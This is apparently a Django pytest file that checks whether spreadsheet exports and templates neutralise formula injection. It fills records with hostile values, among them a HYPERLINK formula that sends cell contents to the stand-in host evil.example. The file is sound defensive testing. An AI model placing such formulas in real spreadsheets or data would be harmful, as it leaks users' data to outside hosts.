"""Formula injection: whatever users typed, every list export, the summary workbook and the
upload templates write it back as text cells (never a formula), and numbers stay numbers."""

from __future__ import annotations

import io

import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from orgs.models import User

#: What an attacker or a clumsy user types into a name, an address or a note.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=1+1", "+1", "-1", "@x",
           "\tx", "\rx"]
EXPORTS = [
    ("orgs:export", {}), ("orgs:activity_export", {}), ("orgs:rollup_export", {}),
    ("families:household_export", {}), ("families:coverage_export", {}),
    ("families:honour_export", {}), ("rights:case_export", {}), ("rights:stats_export", {}),
    ("children:project_export", {}), ("children:room_export", {}),
    ("children:rooms_due_export", {}), ("children:expert_export", {}),
    ("children:child_export", {}), ("children:grant_export", {}),
]
TEMPLATES = ["orgs:import_template", "users:import_template",
             "families:household_import_template"]


def _poisonable(model) -> list[models.Field]:
    unique = {name for together in model._meta.unique_together for name in together}
    for constraint in model._meta.constraints:
        unique |= set(getattr(constraint, "fields", ()) or ())
    return [f for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and not f.choices
            and not f.unique and f.name not in unique and f.name not in ("path", "password")
            and not f.name.endswith("_hash")]


def poison_every_text_field() -> int:
    """Overwrite every free-text field of every record with a hostile value."""
    changed = 0
    for app in ("orgs", "families", "rights", "children"):
        for model in apps.get_app_config(app).get_models():
            fields = _poisonable(model)
            if not fields:
                continue
            for i, pk in enumerate(model.objects.values_list("pk", flat=True)):
                values = {}
                for j, field in enumerate(fields):
                    value = HOSTILE[(i + j) % len(HOSTILE)]
                    values[field.name] = value[:field.max_length] if field.max_length else value
                model.objects.filter(pk=pk).update(**values)
                changed += 1
    return changed


def cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.fixture
def poisoned(db):
    call_command("seed_demo", "--scale", "small", "--seed", "3")
    assert poison_every_text_field() > 100


def test_every_export_writes_hostile_text_as_text(poisoned, client):
    client.force_login(User.objects.get(username="district_admin"))
    seen: set[str] = set()
    numbers = 0
    for name, kwargs in EXPORTS + [(n, {}) for n in TEMPLATES]:
        response = client.get(reverse(name, kwargs=kwargs))
        assert response.status_code == 200, name
        for cell in cells(response.content):
            assert cell.data_type != "f", f"{name} {cell.coordinate}: formula {cell.value!r}"
            if isinstance(cell.value, str):
                seen.add(cell.value)
                if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (name, cell.value)
            elif isinstance(cell.value, int | float):
                numbers += 1
    # Text comes back exactly as typed, and the figures are still numbers.
    assert set(HOSTILE) <= seen, set(HOSTILE) - seen
    assert numbers > 0


def test_tally_template_writes_a_hostile_name_as_text(world):
    from django.utils import timezone

    from orgs.tallies import excel as tally_excel

    world.c1.name = "=HYPERLINK(\"http://evil.example\",\"x\")"
    world.c1.save()
    month = timezone.localdate().replace(day=1)
    user = world.users["community_chair"]
    user.refresh_from_db()
    template = tally_excel.template_bytes(user, month)
    found = [c for c in cells(template) if c.value == world.c1.name]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for c in cells(template) if c.data_type == "f"]


def test_summary_workbook_writes_hostile_names_as_text(poisoned, tmp_path):
    from django.utils import timezone

    from federation.portal.summary.build import build_files
    from federation.portal.summary.data import SummaryContext
    from orgs.models import Organization, OrgKind

    district = Organization.objects.get(kind=OrgKind.DISTRICT)
    path = tmp_path / "summary.xlsx"
    build_files(SummaryContext(timezone.localdate().year, district), path, None)
    found = list(cells(path.read_bytes()))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    texts = {c.value for c in found if isinstance(c.value, str)}
    assert texts & set(HOSTILE), "the poisoned names should appear in the summary"
    assert [c for c in found if isinstance(c.value, int | float)]
